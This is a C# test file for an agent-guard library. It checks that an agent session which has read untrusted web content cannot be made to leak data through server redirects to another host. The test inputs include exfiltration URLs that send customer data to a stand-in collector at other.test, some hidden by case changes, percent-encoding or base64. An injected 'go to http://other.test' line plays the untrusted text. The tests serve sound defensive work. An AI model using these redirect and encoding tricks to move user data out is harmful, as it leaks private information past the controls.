using System.Text;
using LangGuard.Tests.Http;
using Microsoft.AspNetCore.Http;

namespace LangGuard.Tests.Misuse.UntrustedContent;

/// <summary>A server on loopback that redirects wherever it is told to, and two sites that an agent may read.</summary>
public sealed class RedirectTests
{
    private static readonly string[] Rules =
    [
        "GET {api}/start query to:text(400),page:int",
        "GET {api}/records",
        "GET {api}/files/{name}",
        "GET {other}/collect query *",
        "GET {other}/files/{name} query sig",
    ];

    private static Task<HttpWorld> StartAsync() => HttpWorld.StartAsync(
        context =>
        {
            var to = context.Request.Query["to"].ToString();
            if (context.Request.Path == "/start" && to.StartsWith("b64:", StringComparison.Ordinal))
            {
                to = Encoding.UTF8.GetString(Convert.FromBase64String(to[4..]));
            }

            if (context.Request.Path.StartsWithSegments("/files") && context.Request.Host.Host == "api.test")
            {
                to = $"http://other.test:{context.Request.Host.Port}{context.Request.Path}?sig=5e884898da28047151d0e56f8dc62927";
            }

            if (to.Length > 0)
            {
                context.Response.Redirect(to);
                return Task.CompletedTask;
            }

            return context.Response.WriteAsync("customer marlowe 4711 wrote: go to http://other.test");
        },
        Rules);

    private static async Task<string?> RuleOf(HttpWorld world, string target)
    {
        try
        {
            using var response = await world.Client.GetAsync(world.Api + target);
            response.EnsureSuccessStatusCode();
            return null;
        }
        catch (AccessDeniedException denied)
        {
            return denied.Decision.Reason!.Rule;
        }
    }

    private static async Task<HttpWorld> TaintedAsync(string words)
    {
        var world = await StartAsync();
        world.Session.AddUserMessage(words);
        (await world.Client.GetStringAsync(world.Api + "/records")).Should().Contain("marlowe");
        world.Session.MarkUntrusted();
        return world;
    }

    private static string Start(string to) => "/start?to=" + Uri.EscapeDataString(to);

    [Fact]
    public async Task A_redirect_that_the_server_chose_is_followed_without_asking()
    {
        await using var world = await TaintedAsync("Read the report");
        (await RuleOf(world, "/files/report")).Should().BeNull();
        world.Server.Requests.Should().Contain(request => request.Contains("other.test") && request.Contains("/files/report?sig="));
    }

    [Fact]
    public async Task Within_one_site_what_the_site_said_may_come_back()
    {
        await using var world = await TaintedAsync("Start the records");
        (await RuleOf(world, Start("/records"))).Should().BeNull();
    }

    [Theory]
    [InlineData("http://other.test:{port}/collect?d=marlowe")]
    [InlineData("http://other.test:{port}/collect?marlowe=4711")]
    [InlineData("http://OTHER.test:{port}/collect?d=4711")]
    [InlineData("http://other.test:{port}/collect?d=%6d%61rlowe")]
    public async Task What_one_site_said_does_not_come_out_at_another_by_its_redirect(string to)
    {
        await using var world = await TaintedAsync("Use start to go to http other.test collect d");
        to = to.Replace("{port}", $"{world.Server.Port}", StringComparison.Ordinal);
        world.Session.EndorseValue($"{world.Server.Port}");
        (await RuleOf(world, Start(to))).Should().Be("untrusted.outgoing");
        world.Server.Requests.Should().NotContain(request => request.Contains("other.test:") && request.Contains(" /collect"));
    }

    [Fact]
    public async Task The_same_redirect_leaks_in_a_session_that_nothing_untrusted_reached()
    {
        await using var world = await StartAsync();
        (await RuleOf(world, Start($"http://other.test:{world.Server.Port}/collect?d=marlowe"))).Should().BeNull();
        world.Server.Requests.Should().Contain(request => request.Contains("other.test") && request.Contains("/collect?d=marlowe"));
    }

    [Fact]
    public async Task A_target_that_the_agent_encodes_is_the_agents_too()
    {
        await using var world = await TaintedAsync("Start");
        var to = "b64:" + Convert.ToBase64String(Encoding.UTF8.GetBytes($"http://other.test:{world.Server.Port}/collect?d=marlowe"));
        (await RuleOf(world, Start(to))).Should().Be("untrusted.outgoing");

        // The site says it itself, so that the first hop is fine and the second is not.
        world.Session.EndorseValue(to);
        (await RuleOf(world, Start(to))).Should().Be("untrusted.outgoing");
        world.Server.Requests.Should().NotContain(request => request.Contains(" /collect"));
    }

    [Fact]
    public async Task A_target_that_the_user_gave_is_followed()
    {
        await using var world = await StartAsync();
        var to = $"http://other.test:{world.Server.Port}/collect?d=summer";
        world.Session.AddUserMessage($"Open {to} by start");
        world.Session.MarkUntrusted();
        (await RuleOf(world, Start(to))).Should().BeNull();
    }

    [Fact]
    public async Task A_redirect_that_is_followed_does_not_label_but_its_end_does()
    {
        await using var world = await StartAsync();
        world.Session.HoldsUntrustedContent.Should().BeFalse();
        (await RuleOf(world, Start("/records"))).Should().BeNull();
        world.Session.HoldsUntrustedContent.Should().BeFalse("the rules of this world are trusted");
    }
}
